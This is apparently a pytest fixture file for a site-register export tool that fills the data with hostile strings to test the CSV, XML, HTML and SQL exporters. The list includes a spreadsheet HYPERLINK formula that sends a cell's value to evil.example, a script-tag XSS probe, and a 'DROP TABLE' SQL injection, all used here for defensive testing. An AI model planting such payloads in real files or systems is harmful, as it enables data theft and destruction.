"""Two registers to export: the plain one, and one whose every text is hostile."""

from pathlib import Path

import pytest

import sitemap
from sitemap.exchange.export import FORMATS, Content
from sitemap.publication.export import export
from tests.registers import valid

# Run by another Python, the one that has PyQGIS.
collect_ignore = ["open_in_qgis.py"]

# What breaks CSV, XML, HTML, SQL, expressions and fixed widths, if anything does.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "<script>alert(1)</script><![CDATA[x]]>",
    "]]>&amp;&lt;\"'\\",
    "a,b;c\td\r\n=1+1",
    "'); DROP TABLE sites; --",
    "{placeholder} %s ${x} $[y]",
    "ä€𝄞 שלום \u202e",
    "x" * 600,
    "ü" * 300,
]


def content_of(folder: Path, language: str = "de") -> Content:
    linked = sitemap.link(sitemap.read_register(folder))
    return Content(linked, sitemap.analyse(linked, names=["measures"]), language)


@pytest.fixture(scope="session")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Content:
    return content_of(valid().write(tmp_path_factory.mktemp("plain") / "register"))


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Content:
    draft = valid()
    for number, text in enumerate(HOSTILE):
        site = draft.sites[number % len(draft.sites)]
        column = ("name_de", "note_de", "former_use_en")[number // len(draft.sites)]
        site[column] = text
    draft.change("projects", "market-hall", name_de=HOSTILE[1], description_de=HOSTILE[0], lead=HOSTILE[3])
    draft.change("sources", "town-plan", title=HOSTILE[4])
    draft.change("layers", "river", title_de=HOSTILE[1])
    draft.info = draft.info.replace("Brachflächen in Seldorf", "<b>]]>{x} & Brachflächen</b>")
    return content_of(draft.write(tmp_path_factory.mktemp("hostile") / "register"))


@pytest.fixture(scope="session")
def exported(plain: Content, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("exported")
    export(plain, folder, FORMATS)
    return folder


@pytest.fixture(scope="session")
def exported_hostile(hostile: Content, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("exported-hostile")
    export(hostile, folder, FORMATS)
    return folder
